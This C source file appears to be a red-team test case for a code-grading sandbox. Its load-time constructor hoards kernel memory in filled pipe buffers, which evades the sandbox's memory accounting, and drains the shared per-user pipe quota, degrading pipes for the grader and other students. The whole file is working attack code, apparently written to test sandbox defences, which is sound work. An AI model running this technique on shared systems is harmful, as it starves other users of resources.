/*
 * Memory out of every count: pipe buffers (issue 29, class 4; red team
 * 41b).  A constructor raises its soft RLIMIT_NOFILE to the hard limit
 * (setrlimit is the zygote's, and raising the soft limit up to the hard one
 * needs no privilege), makes pipes and fills each (non-blocking, until it
 * is full), keeping 64 descriptors for the runtime.  Pipe buffers are
 * kernel memory: no address space (RLIMIT_AS), no VmSize at the hello, no
 * Pss (runner.c slot_watch_tree) - only a memory cgroup charges them.  The
 * answer is right only when at least 120 MiB is held, against the test's
 * 64 MiB: the runner holds it for its whole life.  Where every runner is
 * the same user (a normal user, with or without user namespaces), the
 * first 64 MiB also use up the user's pipe quota (fs.pipe-user-pages-soft,
 * 16384 pages): every pipe the grader and every other student's runner
 * makes afterwards gets 8 KiB instead of 64 KiB.
 */
#include <fcntl.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

static unsigned long long held;

__attribute__((constructor)) static void hoard(void)
{
	static char chunk[65536];
	struct rlimit rl;
	int p[2];

	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max > 40000 ? 40000 : rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	if (getrlimit(RLIMIT_NOFILE, &rl) < 0)
		return;
	memset(chunk, 'x', sizeof chunk);
	while (held < (200ull << 20) && pipe2(p, O_NONBLOCK) == 0) {
		ssize_t k;
		if ((rlim_t)p[1] + 64 >= rl.rlim_cur) {
			close(p[0]);
			close(p[1]);
			break;
		}
		while ((k = write(p[1], chunk, sizeof chunk)) > 0)
			held += (unsigned long long)k;
		close(p[1]); /* the buffer stays while the read end is open */
	}
}

long long twice(long long x)
{
	return held >= (120ull << 20) ? 2 * x : 2 * x + 1;
}
